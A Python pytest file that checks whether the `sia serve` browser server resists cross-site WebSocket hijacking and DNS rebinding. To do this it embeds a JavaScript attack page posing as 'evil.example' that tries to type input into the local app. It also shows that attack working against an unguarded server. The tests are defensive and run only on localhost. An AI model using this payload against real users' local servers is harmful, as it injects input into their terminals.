"""A page of another site in a real browser, which tries to type into the app of `sia serve`."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import socket
import tempfile
from collections.abc import AsyncIterator, Mapping
from pathlib import Path

import pytest
from aiohttp import web
from textual_serve.server import Server

from sia_tui.cli.processes.browser_server import BrowserServer

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium; `apt-get install chromium` brings one"),
]
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-dev-shm-usage",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
)  # fmt: skip
PAGE = """<!doctype html><title>A page of another site</title><script>
const tell = said => fetch("/said", {method: "POST", body: JSON.stringify(said)});
async function attack(url) {
  const said = {fetched: "refused", opened: false};
  try { said.fetched = (await (await fetch(url)).text()).length; } catch (error) { said.fetched = "refused"; }
  const socket = new WebSocket(url.replace("http:", "ws:") + "ws?width=80&height=24");
  said.opened = await new Promise(done => {
    socket.onopen = () => { socket.send(JSON.stringify(["stdin", "typed by a stranger"])); done(true); };
    socket.onerror = () => done(false);
  });
  await tell(said);
}
attack(ADDRESS);
</script>"""


class Site:
    """A site of `page`; keeps what its page says of its attack."""

    def __init__(self, page: str) -> None:
        self.said: asyncio.Future[Mapping[str, object]] = asyncio.get_running_loop().create_future()
        self._page = page
        self.app = web.Application()
        self.app.add_routes([web.get("/", self._show), web.post("/said", self._hear)])

    async def _show(self, _: web.Request) -> web.Response:
        return web.Response(text=self._page, content_type="text/html")

    async def _hear(self, request: web.Request) -> web.Response:
        if not self.said.done():
            self.said.set_result(json.loads(await request.text()))
        return web.Response()


@contextlib.asynccontextmanager
async def served(app: web.Application, port: int) -> AsyncIterator[None]:
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", port).start()
        yield
    finally:
        await runner.cleanup()


@contextlib.asynccontextmanager
async def browser(url: str, *flags: str) -> AsyncIterator[asyncio.subprocess.Process]:
    """Chromium at `url`, with a profile of its own; it is gone afterwards, with all its processes."""
    assert CHROMIUM is not None
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        chromium = await asyncio.create_subprocess_exec(
            CHROMIUM, *FLAGS, f"--user-data-dir={profile}", *flags, url,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL, start_new_session=True,
            env={"PATH": os.environ["PATH"], "HOME": profile, "LANG": "C.UTF-8"},
        )  # fmt: skip
        try:
            yield chromium
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(chromium.pid, 9)
            await chromium.wait()


def free_port() -> int:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return int(free.getsockname()[1])


def listening(typed: Path) -> str:
    """An app that keeps what is typed into it."""
    return f"timeout 20 cat >> '{typed}'"


async def attacked(server: Server, address: str, site: str) -> Mapping[str, object]:
    """What a page of `site` reaches at `address`; the site's name leads to this machine."""
    page = Site(PAGE.replace("ADDRESS", json.dumps(address)))
    port = free_port()
    async with served(await server._make_app(), server.port), served(page.app, port):
        async with browser(f"http://{site}:{port}/", "--host-resolver-rules=MAP evil.example 127.0.0.1"):
            said = await asyncio.wait_for(page.said, 60)
        await asyncio.sleep(0.2)  # what was typed has arrived
    return said


@pytest.mark.parametrize("site", ["evil.example", "localhost"])
def test_a_foreign_page_types_into_nothing_even_with_the_token(tmp_path: Path, site: str) -> None:
    async def go() -> None:
        typed = tmp_path / "typed"
        server = BrowserServer(listening(typed), free_port())
        said = await attacked(server, server.address, site)
        assert (said["fetched"], said["opened"]) == ("refused", False)
        assert not typed.exists()

    asyncio.run(go())


def test_the_attack_bites_a_server_without_the_guard(tmp_path: Path) -> None:
    async def go() -> None:
        typed = tmp_path / "typed"
        port = free_port()
        server = Server(listening(typed), host="127.0.0.1", port=port)
        said = await attacked(server, f"http://127.0.0.1:{port}/", "evil.example")
        assert said["opened"] is True
        assert b"typed by a stranger" in typed.read_bytes()

    asyncio.run(go())


@pytest.mark.parametrize("name", ["127.0.0.1", "evil.example"])
def test_the_browser_of_the_user_opens_the_app_and_a_rebound_name_does_not(tmp_path: Path, name: str) -> None:
    async def go() -> None:
        typed = tmp_path / "typed"
        server = BrowserServer(listening(typed), free_port())
        address = server.address.replace("127.0.0.1", name)
        own = name == "127.0.0.1"
        async with (
            served(await server._make_app(), server.port),
            browser(address, "--host-resolver-rules=MAP evil.example 127.0.0.1") as chromium,
        ):
            for _ in range(300 if own else 30):
                if typed.exists():
                    break
                await asyncio.sleep(0.1)
            assert chromium.returncode is None
        assert typed.exists() == own

    asyncio.run(go())
